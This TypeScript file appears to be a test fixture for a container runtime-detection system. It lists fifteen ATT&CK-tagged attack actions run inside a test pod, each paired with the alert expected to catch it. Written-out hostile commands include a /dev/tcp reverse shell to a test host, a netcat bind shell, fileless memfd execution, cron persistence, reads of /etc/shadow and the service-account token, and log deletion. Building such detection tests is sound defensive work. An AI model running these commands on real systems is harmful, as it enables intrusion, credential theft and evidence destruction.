// Attack actions, each tagged with its ATT&CK technique: what runs, in which workload,
// how it gets there, and which alert counts as detecting it. Every action works on the
// pod's own tmpfs mounts or on loopback; nothing touches the host.
//
// Two ways in, as in real clusters: `rce`, a command injection in the web service
// (the payload runs under python3 → sh -c, the service's own process tree), and
// `exec`, a process started in the pod from outside it (kubectl exec).
import type { Alert } from '../../../models/alert.ts';
import type { Role } from './workloads.ts';

export interface AttackContext {
  /** a port nothing listens on, for the bind shell */
  bindPort: number;
  /** the test's own listener on a new loopback destination (reverse shell) */
  reverseHost: string;
  reversePort: number;
  /** the test's mining-pool stand-in */
  minerHost: string;
  minerPort: number;
}

export interface Attack {
  id: string;
  /** ATT&CK technique the action performs */
  technique: string;
  name: string;
  /** the workload (role) it runs in */
  role: Role;
  entry: 'rce' | 'exec';
  script(c: AttackContext): string;
  /** the alert that counts as detecting this action: the right kind of finding */
  detects(a: Alert): boolean;
}

const rule = (...ids: string[]) => (a: Alert): boolean => ids.includes(a.rule);
const about = (kind: Alert['kind'], path: RegExp) => (a: Alert): boolean => a.kind === kind && path.test(a.evidence.path ?? '');

export const ATTACKS: readonly Attack[] = [
  {
    id: 'shell-recon',
    technique: 'T1059.004',
    name: 'interactive shell from the service, then discovery (id, uname, hostname, os-release, ps)',
    role: 'web',
    entry: 'rce',
    script: () => "bash -i <<'EOF'\nid\nuname -a\nhostname\ncat /etc/os-release\nps aux\nEOF",
    detects: rule('shell-spawned'),
  },
  {
    id: 'drop-exec',
    technique: 'T1105',
    name: 'drop a binary in /dev/shm and run it',
    role: 'db',
    entry: 'exec',
    script: () => 'cp /usr/bin/ls /dev/shm/.kworker && chmod +x /dev/shm/.kworker && /dev/shm/.kworker -la / > /dev/null; rm -f /dev/shm/.kworker',
    detects: rule('drift-exec', 'exec-writable-path'),
  },
  {
    id: 'fileless',
    technique: 'T1620',
    name: 'fileless execution from memfd_create (python3 os.memfd_create + execve)',
    role: 'forker',
    entry: 'exec',
    script: () =>
      `/usr/bin/python3 -c "import os; fd = os.memfd_create('x', 0); os.write(fd, open('/usr/bin/true', 'rb').read()); os.execv('/proc/self/fd/%d' % fd, ['kworker'])"`,
    detects: rule('fileless-exec'),
  },
  {
    id: 'cron-write',
    technique: 'T1053.003',
    name: 'persistence: a file in /etc/cron.d',
    role: 'db-client',
    entry: 'exec',
    script: () => "echo '* * * * * root /tmp/.update' > /etc/cron.d/sys-update && sleep 0.2 && rm -f /etc/cron.d/sys-update",
    detects: rule('write-system-path'),
  },
  {
    id: 'bin-write',
    technique: 'T1554',
    name: 'a binary written into /usr/local/sbin',
    role: 'forker',
    entry: 'exec',
    script: () => 'cp /usr/bin/true /usr/local/sbin/kthreadd && sleep 0.2 && rm -f /usr/local/sbin/kthreadd',
    detects: rule('write-system-path'),
  },
  {
    id: 'bind-shell',
    technique: 'T1571',
    name: 'bind shell (busybox nc -l -e /bin/sh)',
    role: 'forker',
    entry: 'exec',
    script: (c) => `busybox nc -l -p ${c.bindPort} -e /bin/sh & pid=$!; sleep 1.5; kill $pid 2>/dev/null; wait $pid 2>/dev/null; true`,
    detects: rule('listener-by-tool', 'unexpected-listen'),
  },
  {
    id: 'reverse-shell',
    technique: 'T1059.004',
    name: 'reverse shell to a new destination (bash -i >& /dev/tcp/…)',
    role: 'web',
    entry: 'rce',
    script: (c) => `bash -c 'bash -i >& /dev/tcp/${c.reverseHost}/${c.reversePort} 0>&1'`,
    detects: rule('unexpected-connect', 'shell-spawned'),
  },
  {
    id: 'miner-egress',
    technique: 'T1496',
    name: 'egress to a mining-pool port',
    role: 'db-client',
    entry: 'exec',
    script: (c) => `/usr/bin/python3 -c "import socket; s = socket.create_connection(('${c.minerHost}', ${c.minerPort}), 3); s.sendall(b'{\\"method\\": \\"login\\"}\\n'); s.close()"`,
    detects: rule('miner-port-egress'),
  },
  {
    id: 'package-manager',
    technique: 'T1105',
    name: 'package manager in the container (apt-get install, simulated)',
    role: 'db',
    entry: 'exec',
    script: () => 'apt-get -s install netcat-openbsd > /dev/null 2>&1; true',
    detects: rule('package-manager'),
  },
  {
    id: 'ptrace',
    technique: 'T1055.008',
    name: 'ptrace (strace attaches to a process)',
    role: 'web-client',
    entry: 'exec',
    script: () => 'strace -f -o /dev/null /usr/bin/true',
    detects: rule('dangerous-syscall'),
  },
  {
    id: 'unshare-mount',
    technique: 'T1611',
    name: 'unshare a mount namespace and mount a file system',
    role: 'db',
    entry: 'exec',
    script: () => 'unshare -m /bin/sh -c "mount -t tmpfs none /mnt && umount /mnt"',
    detects: rule('dangerous-syscall'),
  },
  {
    id: 'sa-token',
    technique: 'T1528',
    name: 'read the service-account token',
    role: 'web',
    entry: 'rce',
    script: () => 'cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null',
    detects: (a) => rule('sa-token-read')(a) || about('file_open', /\/secrets\/kubernetes\.io\/serviceaccount\//)(a),
  },
  {
    id: 'shadow-read',
    technique: 'T1003.008',
    name: 'read /etc/shadow',
    role: 'db',
    entry: 'exec',
    script: () => 'cat /etc/shadow > /dev/null',
    detects: (a) => a.rule === 'credential-file-read' || about('file_open', /^\/etc\/shadow$/)(a),
  },
  {
    id: 'log-tamper',
    technique: 'T1070.002',
    name: 'clear the logs (truncate the live log, then delete it and the rotated ones)',
    role: 'worker',
    entry: 'exec',
    // truncate(1) empties through ftruncate on a descriptor, which no source reports as a
    // path; the deletion of the live log is what is seen
    script: () => 'truncate -s 0 /var/log/app/worker.log; rm -f /var/log/app/worker.log /var/log/app/worker.log.*',
    detects: (a) => a.rule === 'log-tampering' || (a.kind === 'file_write' && /^\/var\/log\//.test(a.evidence.path ?? '')),
  },
  {
    id: 'setuid',
    technique: 'T1548.001',
    name: 'set the setuid bit on a copied binary (chmod u+s)',
    role: 'forker',
    entry: 'exec',
    script: () => 'cp /usr/bin/id /tmp/.id && chmod u+s /tmp/.id && rm -f /tmp/.id',
    detects: (a) => a.rule === 'setuid-bit-set' || (a.kind === 'file_write' && a.evidence.op === 'chmod'),
  },
];
